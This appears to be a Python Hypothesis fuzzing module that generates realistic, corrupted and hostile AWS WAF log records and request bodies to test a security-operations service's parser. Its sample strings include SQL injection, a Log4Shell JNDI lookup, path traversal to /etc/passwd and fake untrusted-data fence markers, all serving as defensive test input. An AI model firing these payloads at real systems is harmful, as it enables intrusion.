"""Hypothesis strategies: realistic WAF log records, simplified events, payloads, hostile text.

Every strategy mixes the shapes AWS WAF really logs with what a broken exporter, a
hand-written test event or an attacker sends instead: missing, ``None`` and wrong-typed
fields, control characters, lone surrogates, huge strings and deep nesting. Values stay
JSON-representable (what the runtime can receive), but lone surrogates and NaN are
included because Python's ``json`` module accepts ``"\\ud800"`` and ``NaN``.

``FUZZ_SCALE`` (environment ``SECOPS_FUZZ_SCALE``, default 1) multiplies every
``max_examples``: the default keeps the whole fuzz set under a minute on two cores, a
nightly run can use ``SECOPS_FUZZ_SCALE=20``.
"""

from __future__ import annotations

import json
import os
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

from hypothesis import settings
from hypothesis import strategies as st

from secops_core.contract import Header, RuleMatch, WafEvent
from secops_core.errors import ContractError
from secops_core.ingest.normalize import normalize_event
from secops_core.limits import (
    MAX_EVENT_DEPTH,
    MAX_FIELD_CHARS,
    MAX_HEADERS,
    MAX_ID_CHARS,
    MAX_JSON_DEPTH,
    MAX_PAYLOAD_BYTES,
)

FUZZ_SCALE = float(os.environ.get("SECOPS_FUZZ_SCALE", "1"))


def has_surrogate(text: str) -> bool:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return True
    return False


def fuzz_settings(max_examples: int, **kwargs: Any) -> settings:
    """``max_examples`` scaled by ``SECOPS_FUZZ_SCALE``; no deadline (CI machines are noisy)."""
    return settings(max_examples=max(1, int(max_examples * FUZZ_SCALE)), deadline=None, **kwargs)


# ---- text ----------------------------------------------------------------------------------

# Characters that break naive code: C0/C1 controls, DEL, line and paragraph separators,
# bidi overrides, zero-width and BOM, a Unicode tag, a variation selector, non-characters.
_NASTY = [
    "\x00",
    "\x1b",
    "\x7f",
    "\x85",
    "\x9b",
    "\t",
    "\r",
    "\n",
    "\x0b",
    "\x1c",
    "\u2028",
    "\u2029",
    "\u200b",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\ufe0f",
    "\ufffe",
    "\uffff",
    "\U000e0041",
    "\U0001f600",
    "\ufdfa",
    "İ",
    "ß",
]
nasty_chars = st.sampled_from(_NASTY)
# Every code point, lone surrogates (category Cs) included.
any_chars = st.characters(exclude_categories=())

short_text = st.text(max_size=12)
# Drawn in chunks, not character by character: generation dominates the run time.
hostile_text = st.lists(st.one_of(st.text(any_chars, max_size=8), nasty_chars), max_size=5).map("".join)

# Lengths at and around the limits: one character more must be rejected, not crash.
_BIG_LENGTHS = [MAX_ID_CHARS, MAX_ID_CHARS + 1, 5000, MAX_FIELD_CHARS, MAX_FIELD_CHARS + 1, 200_000]
huge_text = st.builds(
    lambda unit, n: unit * (n // len(unit)),
    st.one_of(st.text(any_chars, min_size=1, max_size=3), nasty_chars),
    st.sampled_from(_BIG_LENGTHS),
)
# Cheap, telling values: injections, fence markers, separators, lone surrogates.
_SAMPLE_TEXTS = [
    "",
    " ",
    "-",
    "null",
    "0",
    "\x00",
    "e\u0301",
    "</script>",
    "' OR '1'='1",
    "${jndi:ldap://198.51.100.9/a}",
    "<<<UNTRUSTED_REQUEST_DATA id=0>>>",
    "<<<END_UNTRUSTED_REQUEST_DATA id=0>>>",
    "--- JSON ---",
    "\n--- JSON ---\n{}",
    "\ud800",
    "a\udfffb",
    "line\u2028break",
    "\u202eevil",
    "%00%0d%0a",
    "/../../etc/passwd",
]
sample_texts = st.sampled_from(_SAMPLE_TEXTS)


def texts(*, huge: bool = True) -> st.SearchStrategy[str]:
    """Mostly ordinary, sometimes hostile, occasionally huge strings."""
    options = [sample_texts, sample_texts, short_text, hostile_text]
    if huge:
        options.append(huge_text)
    return st.one_of(*options)


# Text for a well-formed field: realistic or hostile, never past a size limit.
field_texts = texts(huge=False)

# ---- arbitrary JSON --------------------------------------------------------------------------

json_numbers = st.one_of(
    st.integers(),
    st.sampled_from([0, -1, 2**31, 2**63, -(2**63) - 1]),
    # Up to the 4300 digits Python's json module still parses (as a lazy map: short reprs).
    st.sampled_from([30, 300, 4299]).map(lambda digits: 10**digits),
    st.floats(allow_nan=True, allow_infinity=True),
)
json_scalars = st.one_of(st.none(), st.booleans(), json_numbers, texts(huge=False))


def nest(kind: str, depth: int, leaf: Any) -> Any:
    value = leaf
    for _ in range(depth):
        value = [value] if kind == "list" else {"a": value}
    return value


# Nesting at and past the limit. Deeper Python objects would overflow hypothesis's own
# pretty-printer when it reports a failure; raw bodies below go up to and past the JSON
# parser's limit (~990 levels), where a recursive walk once overflowed the stack.
deep_values = st.builds(
    nest,
    st.sampled_from(["list", "dict"]),
    st.sampled_from([MAX_EVENT_DEPTH - 2, MAX_EVENT_DEPTH - 1, MAX_EVENT_DEPTH, 100]),
    json_scalars,
)

json_values = st.recursive(
    json_scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(texts(huge=False), children, max_size=4),
    ),
    max_leaves=12,
)


def weighted(*choices: tuple[int, st.SearchStrategy[Any]]) -> st.SearchStrategy[Any]:
    """One of the strategies, chosen with the given weights.

    ``st.one_of`` flattens nested one_ofs and picks among all their branches uniformly,
    so repeating a branch does not weigh it reliably; this draws the branch first.
    """
    pool = [strategy for weight, strategy in choices for _ in range(weight)]
    return st.sampled_from(pool).flatmap(lambda strategy: strategy)


def optional_keys(required: dict[str, Any], optional: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    """A dict with each key present or missing (the value strategies already include None)."""
    return st.fixed_dictionaries(required, optional=optional)


# A minimal valid simplified event, for explicit examples.
EXAMPLE_EVENT: dict[str, Any] = {
    "id": "evt-fuzz",
    "timestamp": "2026-11-25T11:00:00Z",
    "action": "BLOCK",
    "source_ip": "198.51.100.23",
    "uri": "/login.php",
    "rule_name": "SQLi_BODY",
}

# ---- fields ----------------------------------------------------------------------------------

_EPOCH_MS_2026 = 1_795_000_000_000
epoch_ms = st.integers(_EPOCH_MS_2026 - 10**11, _EPOCH_MS_2026 + 10**11)
_tz_offsets = st.integers(-23 * 60 - 59, 23 * 60 + 59).map(lambda m: timezone(timedelta(minutes=m)))
aware_datetimes = st.datetimes(
    min_value=datetime(1, 1, 2), max_value=datetime(9999, 12, 30), timezones=st.just(UTC) | _tz_offsets
)


def iso(moment: datetime, style: int = 0) -> str:
    """ISO 8601 in the spellings exporters use: Z, z, naive (taken as UTC), offsets."""
    text = moment.isoformat()
    if style == 0:
        return text.replace("+00:00", "Z")
    if style == 1:
        return text.replace("+00:00", "z")
    if style == 2:
        return moment.replace(tzinfo=None).isoformat()
    if style == 3:
        return moment.replace(tzinfo=None).isoformat(sep=" ", timespec="seconds")
    return text


# Well-formed: epoch ms as int, float or string, epoch seconds, ISO with or without Z/offset.
valid_timestamps = st.one_of(
    epoch_ms,
    epoch_ms.map(float),
    epoch_ms.map(str),
    epoch_ms.map(lambda ms: f" {ms / 1000} "),
    st.builds(iso, aware_datetimes, st.integers(0, 4)),
)
bad_timestamps = st.one_of(
    st.sampled_from(
        [
            "9999-12-31T23:59:59-23:59",
            "0001-01-01T00:00:00+23:59",
            "2026-02-30T00:00:00Z",
            "1e400",
            "-1e400",
            "nan",
            "Infinity",
            "1_795_000_000_000",
            "yesterday",
            "",
        ]
    ),
    st.floats(),
    st.integers(),
    st.sampled_from([300, 4299]).map(lambda digits: 10**digits),
)

ipv4 = st.ip_addresses(v=4).map(str)
ipv6 = st.ip_addresses(v=6).map(str)
valid_ips = st.one_of(
    ipv4,
    ipv6,
    st.sampled_from(["::ffff:192.0.2.1", " 198.51.100.23 ", "2001:DB8::1", "fe80::1%eth0", "fe80::1%<b>\n"]),
)
bad_ips = st.sampled_from(["198.51.100.300", "01.2.3.4", "localhost", "", "1.2.3.4/24", "::1%", "\x00"])

WAF_ACTIONS = ["ALLOW", "BLOCK", "COUNT", "CAPTCHA", "CHALLENGE"]
actions = st.one_of(
    st.sampled_from(WAF_ACTIONS),
    st.sampled_from(["allow", " block ", "Blocked", "ALLOWED", "DENY", "COUNTED", "EXPLODE", "", "\x00"]),
)
methods = st.sampled_from(["GET", "POST", "PUT", "DELETE", "PROPFIND", "get", "", "G\x00ET", "X" * 40])

MANAGED_GROUPS = [
    "AWSManagedRulesCommonRuleSet",
    "AWSManagedRulesSQLiRuleSet",
    "AWSManagedRulesKnownBadInputsRuleSet",
    "AWSManagedRulesLinuxRuleSet",
    "AWSManagedRulesUnixRuleSet",
    "AWSManagedRulesWindowsRuleSet",
    "AWSManagedRulesPHPRuleSet",
    "AWSManagedRulesWordPressRuleSet",
    "AWSManagedRulesAdminProtectionRuleSet",
    "AWSManagedRulesAmazonIpReputationList",
    "AWSManagedRulesAnonymousIpList",
    "AWSManagedRulesBotControlRuleSet",
    "AWSManagedRulesATPRuleSet",
    "AWSManagedRulesACFPRuleSet",
    "AWSManagedRulesAntiDDoSRuleSet",
]
MANAGED_RULES = [
    "SQLi_BODY",
    "SQLi_QUERYARGUMENTS",
    "SQLiExtendedPatterns_URIPATH",
    "CrossSiteScripting_BODY",
    "GenericLFI_QUERYARGUMENTS",
    "GenericRFI_BODY",
    "EC2MetaDataSSRF_QUERYARGUMENTS",
    "SizeRestrictions_BODY",
    "NoUserAgent_HEADER",
    "UserAgent_BadBots_HEADER",
    "RestrictedExtensions_URIPATH",
    "Log4JRCE_HEADER",
    "JavaDeserializationRCE_BODY",
    "Host_localhost_HEADER",
    "PROPFIND_METHOD",
    "ExploitablePaths_URIPATH",
    "UNIXShellCommandsVariables_QUERYARGUMENTS",
    "WindowsShellCommands_BODY",
    "PHPHighRiskMethodsVariables_BODY",
    "WordPressExploitableCommands_QUERYSTRING",
    "AdminProtection_URIPATH",
    "AWSManagedIPReputationList",
    "AnonymousIPList",
    "CategoryHttpLibrary",
    "SignalNonBrowserUserAgent",
    "TGT_VolumetricIpTokenAbsent",
    "VolumetricIpHigh",
    "AttributeCompromisedCredentials",
    "DDoSRequests",
    "ChallengeAllDuringEvent",
    "Default_Action",
    "allow-wp-cron",
    "RateLimit-1000",
    "Block-XSS-Custom",
]
LABELS = [
    "awswaf:managed:aws:sql-database:SQLi_Body",
    "awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body",
    "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header",
    "awswaf:managed:aws:bot-control:bot:category:http_library",
    "awswaf:managed:aws:bot-control:bot:verified",
    "awswaf:managed:aws:atp:signal:credential_compromised",
    "awswaf:managed:aws:anti-ddos:high-suspicion-ddos-request",
    "awswaf:managed:token:accepted",
    "awswaf:clientip:geo:country:US",
    "awswaf:123456789012:webacl:shop:custom:sqli-probe",
    "awswaf:managed:vendor:thing",
    "awswaf:",
    "awswaf:managed",
    "custom-label",
]
rule_ids = st.one_of(st.sampled_from(MANAGED_RULES), st.sampled_from(MANAGED_RULES), field_texts)
group_ids = st.one_of(
    st.sampled_from(MANAGED_GROUPS).flatmap(
        lambda g: st.sampled_from(
            [
                f"AWS#{g}",
                f"AWS#{g}#Version_1.4",
                f"AWS-{g}",
                g,
                f"arn:aws:wafv2:us-east-1:123456789012:global/managedruleset/{g}/abc",
            ]
        )
    ),
    field_texts,
)
rule_types = st.sampled_from(["REGULAR", "MANAGED_RULE_GROUP", "RATE_BASED", "GROUP", "", "weird"])
condition_types = st.sampled_from(
    ["SQL_INJECTION", "XSS", "REGEX_MATCH", "BYTE_MATCH", "SIZE_CONSTRAINT", "GEO_MATCH", "IP_MATCH", ""]
)
rule_actions = st.sampled_from(["COUNT", "BLOCK", "ALLOW", "CAPTCHA", "CHALLENGE", "EXCLUDED_AS_COUNT"])

match_details = st.lists(
    optional_keys(
        {},
        {
            "conditionType": condition_types,
            "location": st.sampled_from(["BODY", "QUERY_STRING", "HEADER", "URI"]),
            "matchedData": st.lists(field_texts, max_size=3),
            "sensitivityLevel": st.sampled_from(["LOW", "HIGH"]),
        },
    ),
    max_size=3,
)
matching_rules = st.lists(
    optional_keys(
        {"ruleId": rule_ids},
        {"action": rule_actions, "ruleMatchDetails": match_details, "overriddenAction": rule_actions},
    ),
    max_size=3,
)
excluded_rules = st.lists(
    optional_keys(
        {"ruleId": rule_ids}, {"exclusionType": st.sampled_from(["EXCLUDED_AS_COUNT", "EXCLUDED"])}
    ),
    max_size=2,
)
# A group entry: terminatingRule null or an object, excludedRules null or a list.
rule_group_list = st.lists(
    optional_keys(
        {"ruleGroupId": group_ids},
        {
            "terminatingRule": st.none()
            | optional_keys(
                {"ruleId": rule_ids}, {"action": rule_actions, "ruleMatchDetails": match_details}
            ),
            "nonTerminatingMatchingRules": matching_rules,
            "excludedRules": st.none() | excluded_rules,
            "customerConfig": st.none(),
        },
    ),
    max_size=3,
)
rate_based_rules = st.lists(
    optional_keys(
        {"rateBasedRuleName": rule_ids},
        {
            "rateBasedRuleId": field_texts,
            "limitKey": st.sampled_from(["IP", "FORWARDED_IP", "CUSTOMKEYS"]),
            "maxRateAllowed": st.integers(100, 10**6),
            "evaluationWindowSec": st.sampled_from([60, 300, 600]),
        },
    ),
    max_size=2,
)
labels = st.lists(
    st.one_of(
        st.fixed_dictionaries({"name": st.sampled_from(LABELS) | field_texts}), st.sampled_from(LABELS)
    ),
    max_size=4,
)

# Header names, secret ones included, in the spellings clients and exporters use.
SECRET_HEADER_NAMES = [
    "Authorization",
    "authorization",
    "Proxy-Authorization",
    "Cookie",
    "COOKIE",
    "Set-Cookie",
    "X-Api-Key",
    "x-api-key",
    "Api-Key",
    "X-Auth-Token",
    "X-Amz-Security-Token",
    "X-CSRF-Token",
    "X-Session-Token",
    "X-Goog-Api-Key",
    "Ocp-Apim-Subscription-Key",
    " Cookie ",
    "Cook\x00ie",
    "Author\u200bization",
    "Cookie\t",
    "X-Api-\x1bKey",
]
header_names = st.one_of(
    st.sampled_from(["Host", "User-Agent", "Accept", "Content-Type", "X-Forwarded-For", "Referer"]),
    st.sampled_from(SECRET_HEADER_NAMES),
    field_texts,
)
# Headers as WAF logs them (a list of {name, value}), as exporters flatten them (an
# object), and at the cap of MAX_HEADERS.
headers = st.one_of(
    st.lists(st.fixed_dictionaries({"name": header_names, "value": field_texts}), max_size=5),
    st.dictionaries(header_names, field_texts, max_size=5),
    st.integers(MAX_HEADERS - 1, MAX_HEADERS + 3).map(
        lambda n: [{"name": f"X-H-{i}", "value": str(i)} for i in range(n)]
    ),
)
countries = st.sampled_from(["US", "NL", "DE", "-", "XX"])
uris = st.one_of(st.sampled_from(["/", "/login.php", "/wp-admin/?p=1", "/api/orders/123"]), field_texts)
query_args = st.one_of(
    st.sampled_from(["id=1%27%20OR%20%271%27%3D%271", "token=abc&x=1", "password=hunter2", "a=%ff", ""]),
    field_texts,
)

# ---- corruption ------------------------------------------------------------------------------

# A value of the wrong type or shape for any field: None, numbers, NaN, huge numbers and
# strings, objects, arrays, nesting past the limit.
wrong_values = st.one_of(json_scalars, huge_text, deep_values, st.lists(json_scalars, max_size=2))
_DROP = object()


def _apply(record: dict[str, Any], changes: list[tuple[str, Any]]) -> dict[str, Any]:
    result = dict(record)
    for key, value in changes:
        if value is _DROP:
            result.pop(key, None)
        else:
            result[key] = value
    return result


def corrupted(
    records: st.SearchStrategy[dict[str, Any]], keys: list[str], values: st.SearchStrategy[Any] = wrong_values
) -> st.SearchStrategy[dict[str, Any]]:
    """``records`` with up to two fields removed or replaced by a wrong-typed value."""
    return st.builds(
        _apply,
        records,
        st.lists(st.tuples(st.sampled_from(keys), st.one_of(st.just(_DROP), values)), min_size=1, max_size=2),
    )


# ---- events ----------------------------------------------------------------------------------

_HTTP_REQUEST_OPTIONAL: dict[str, st.SearchStrategy[Any]] = {
    "country": countries,
    "headers": headers,
    "args": query_args,
    "httpVersion": st.sampled_from(["HTTP/1.1", "HTTP/2.0"]),
    "httpMethod": methods,
    "requestId": field_texts,
    "host": field_texts,
    "fragment": field_texts,
    "scheme": st.sampled_from(["http", "https"]),
}
valid_http_requests = optional_keys({"clientIp": valid_ips, "uri": uris}, _HTTP_REQUEST_OPTIONAL)
_WAF_OPTIONAL: dict[str, st.SearchStrategy[Any]] = {
    "formatVersion": st.just(1),
    "webaclId": st.sampled_from(["arn:aws:wafv2:us-east-1:123456789012:regional/webacl/shop/abc"])
    | field_texts,
    "terminatingRuleId": st.one_of(st.just("Default_Action"), rule_ids, group_ids),
    "terminatingRuleType": rule_types,
    "terminatingRuleMatchDetails": match_details,
    "httpSourceName": st.sampled_from(["ALB", "CF", "APIGW", "APPSYNC"]),
    "httpSourceId": field_texts,
    "ruleGroupList": rule_group_list,
    "rateBasedRuleList": rate_based_rules,
    "nonTerminatingMatchingRules": matching_rules,
    "labels": labels,
    "requestHeadersInserted": st.none(),
    "responseCodeSent": st.none() | st.integers(100, 599),
    "captchaResponse": st.fixed_dictionaries({"responseCode": st.integers(0, 405)}),
    "ja3Fingerprint": field_texts,
    "oversizeFields": st.lists(st.sampled_from(["REQUEST_BODY", "REQUEST_HEADERS"]), max_size=2),
}
# Native AWS WAF log records, well-formed (every field the right type, values realistic
# or hostile text); most of them normalize.
valid_waf_log_records = optional_keys(
    {
        "timestamp": valid_timestamps,
        "action": st.sampled_from(WAF_ACTIONS),
        "httpRequest": valid_http_requests,
    },
    _WAF_OPTIONAL,
)
_SIMPLIFIED_OPTIONAL: dict[str, st.SearchStrategy[Any]] = {
    "id": st.one_of(field_texts, st.integers()),
    "http_method": methods,
    "method": methods,
    "rule_name": rule_ids,
    "rule": rule_ids,
    "rule_group": group_ids,
    "rule_type": rule_types,
    "country": countries,
    "user_agent": field_texts,
    "headers": headers,
    "labels": labels,
    "args": query_args,
    "query_string": query_args,
    "host": field_texts,
    "request_id": field_texts,
    "web_acl": field_texts,
}
# The original system's simplified events, well-formed.
valid_simplified_events = optional_keys(
    {
        "timestamp": valid_timestamps,
        "action": st.sampled_from(WAF_ACTIONS),
        "source_ip": valid_ips,
        "uri": uris,
    },
    _SIMPLIFIED_OPTIONAL,
)
valid_events = st.one_of(valid_waf_log_records, valid_simplified_events)

# The same with one or two fields removed or wrong: missing, None, wrong-typed, an action
# WAF does not have, a bad IP or timestamp, a huge string, nesting past the limit.
_field_faults = st.one_of(
    wrong_values,
    bad_timestamps,
    bad_ips,
    st.sampled_from(["allow", " block ", "Blocked", "ALLOWED", "DENY", "EXPLODE", ""]),
)
waf_log_records = st.one_of(
    corrupted(valid_waf_log_records, ["timestamp", "action", "httpRequest", *_WAF_OPTIONAL], _field_faults),
    st.builds(
        lambda record, request: {**record, "httpRequest": request},
        valid_waf_log_records,
        corrupted(valid_http_requests, ["clientIp", "uri", *_HTTP_REQUEST_OPTIONAL], _field_faults),
    ),
)
simplified_events = corrupted(
    valid_simplified_events, ["timestamp", "action", "source_ip", "uri", *_SIMPLIFIED_OPTIONAL], _field_faults
)

# ---- WafEvents built directly (bypassing normalization) -------------------------------------

rule_matches = st.builds(
    RuleMatch,
    rule_id=rule_ids,
    rule_group=st.none() | group_ids,
    action=st.one_of(st.sampled_from([*WAF_ACTIONS, "EXCLUDED_AS_COUNT"]), texts(huge=False)),
    terminating=st.booleans(),
    condition_types=st.lists(condition_types | texts(huge=False), max_size=3).map(tuple),
)
waf_events = st.builds(
    WafEvent,
    event_key=st.one_of(st.just("evt#x"), texts()),
    source_format=st.sampled_from(["simplified", "waf_log"]),
    event_id=st.none() | texts(),
    timestamp=aware_datetimes | st.datetimes(),
    action=st.one_of(st.sampled_from(WAF_ACTIONS), texts()),
    source_ip=valid_ips | bad_ips | texts(),
    country=st.none() | texts(huge=False),
    http_method=st.none() | texts(huge=False),
    host=st.none() | texts(),
    uri=texts(),
    args=st.none() | texts(),
    user_agent=st.none() | texts(),
    headers=st.lists(st.builds(Header, name=header_names, value=texts()), max_size=4).map(tuple),
    rule_name=st.one_of(rule_ids, st.sampled_from(LABELS)),
    rule_group=st.none() | group_ids,
    terminating_rule_type=st.none() | rule_types | texts(huge=False),
    matches=st.lists(rule_matches, max_size=4).map(tuple),
    labels=st.lists(st.sampled_from(LABELS) | texts(), max_size=4).map(tuple),
    request_id=st.none() | texts(huge=False),
    web_acl=st.none() | texts(),
    truncated=st.booleans(),
)


def _as_stored(record: dict[str, Any]) -> Any:
    """The event as the worker stores it and sends it back (monitor), or the record."""
    try:
        return json.loads(normalize_event(record).model_dump_json())
    except ContractError:
        return record


# Stored events as the worker sends them back for monitor, genuine or forged/mangled.
stored_events = st.one_of(
    valid_events.map(_as_stored),
    waf_events.map(lambda e: e.model_dump(mode="json")),
    corrupted(
        valid_events.map(_as_stored),
        ["event_key", "timestamp", "source_ip", "action", "headers", "labels", "rule_name", "extra\n"],
    ),
)

events = weighted(
    (4, valid_events), (2, waf_log_records), (2, simplified_events), (2, stored_events), (1, json_values)
)

# ---- payloads --------------------------------------------------------------------------------

MONITOR_NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
# Events inside a monitor window, from few sources to few URIs, so patterns form.
window_events = st.builds(
    lambda event, minutes, ip, uri: {
        **event,
        "timestamp": iso(MONITOR_NOW - timedelta(minutes=minutes)),
        "source_ip": ip,
        "uri": uri,
    },
    valid_simplified_events,
    st.integers(-5, 24 * 60 + 5),
    st.sampled_from(["198.51.100.23", "203.0.113.7", "2001:db8::1"]),
    st.sampled_from(["/login.php", "/login.php?x=1", "/api/orders/123", "/api/orders/456/"]),
)
valid_analyses = optional_keys(
    {"severity_rating": st.integers(0, 5)},
    {
        "security_analysis": field_texts | huge_text,
        "follow_up_suggestion": field_texts,
        "attack_type": field_texts,
        "confidence": json_scalars,
    },
)
analyses = st.one_of(
    valid_analyses,
    valid_analyses,
    corrupted(valid_analyses, ["severity_rating", "security_analysis", "attack_type"]),
    json_scalars,
)
analyze_requests = optional_keys({"action": st.just("analyze"), "event": events}, {"session": field_texts})
triage_requests = st.fixed_dictionaries(
    {"action": st.just("triage_only"), "event": events, "analysis": analyses}
)
monitor_requests = optional_keys(
    {"action": st.just("monitor")},
    {
        "hours": weighted((6, st.integers(1, 168)), (1, st.floats()), (1, st.integers()), (1, json_scalars)),
        "events": weighted(
            (6, st.lists(weighted((3, window_events), (1, events)), max_size=8)), (1, json_scalars)
        ),
        "threshold": weighted((4, st.integers(1, 6)), (1, json_scalars)),
        "now": weighted(
            (4, st.sampled_from([iso(MONITOR_NOW), iso(MONITOR_NOW, 2), iso(MONITOR_NOW, 4)])),
            (1, st.builds(iso, aware_datetimes, st.integers(0, 4))),
            (1, json_scalars),
        ),
    },
)
valid_requests = weighted((3, analyze_requests), (2, triage_requests), (2, monitor_requests))
requests = weighted(
    (4, valid_requests), (1, corrupted(valid_requests, ["action", "event", "events", "analysis", "hours"]))
)
# The original agent's wrapped form, the inner request as a JSON string or an object.
wrapped = st.one_of(
    requests.map(lambda r: {"prompt": json.dumps(r)}),
    requests.map(lambda r: {"prompt": r}),
    st.fixed_dictionaries({"prompt": texts()}),
)
payloads = weighted((7, requests), (1, wrapped), (1, events), (1, json_values))


def encode(value: Any, *, ascii_only: bool = True) -> bytes:
    """JSON bytes; with lone surrogates and ``ascii_only=False`` the bytes are not UTF-8."""
    return json.dumps(value, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")


# Raw request bodies: good payloads, broken encodings, truncated JSON, absurd numbers,
# nesting around the parser's limit, and now and then more than the 1 MiB cap.
def _truncate(body: bytes, fraction: float) -> bytes:
    return body[: int(len(body) * fraction)]


# Around the body limit (64) and up to json's own (~990): every depth in between once
# passed one parser and overflowed the next.
NESTING_DEPTHS = [MAX_JSON_DEPTH - 3, MAX_JSON_DEPTH - 2, MAX_JSON_DEPTH, 200, 800, 950, 960, 970, 980, 990]


def nested_body(depth: int, kind: str) -> bytes:
    """A complete request whose event holds ``depth`` levels, built without recursion."""
    opening, closing = (b"[", b"]") if kind == "list" else (b'{"a": ', b"}")
    return b'{"action": "analyze", "event": {"x": ' + opening * depth + b"1" + closing * depth + b"}}"


def _oversize(body: bytes) -> bytes:
    pad = MAX_PAYLOAD_BYTES + 1 - len(body)
    return b'{"action": "analyze", "padding": "' + b"x" * max(pad, 1) + b'", "tail": ' + body + b"}"


raw_bodies = weighted(
    (6, st.builds(encode, payloads, ascii_only=st.booleans())),
    (3, st.builds(_truncate, st.builds(encode, requests), st.floats(0, 1))),
    (2, st.binary(max_size=64)),
    (
        2,
        st.sampled_from(
            [
                b"",
                b"{",
                b"null",
                b"[]",
                b'"analyze"',
                b"\xef\xbb\xbf{}",
                b'{"action": "monitor", "hours": 1e400}',
                b'{"action": "monitor", "hours": -Infinity}',
                b'{"action": "monitor", "hours": NaN}',
                b'{"action": "monitor", "hours": 1' + b"0" * 4400 + b"}",
                b'{"action": "analyze", "event": {"timestamp": 1e999}}',
                b'{"prompt": "{\\"action\\": \\"monitor\\", \\"hours\\": Infinity}"}',
            ]
        ),
    ),
    # Unclosed nesting, and complete nesting up to and past json's own limit (~990).
    (
        1,
        st.builds(
            lambda depth, char: b'{"action": "analyze", "event": ' + char * depth + b"}",
            st.sampled_from([500, 900, 990, 1000, 5000, 100_000]),
            st.sampled_from([b"[", b'{"a":']),
        ),
    ),
    (1, st.builds(nested_body, st.sampled_from(NESTING_DEPTHS), st.sampled_from(["list", "dict"]))),
    # Now and then more than the 1 MiB cap.
    (1, st.builds(_oversize, st.builds(encode, requests))),
)
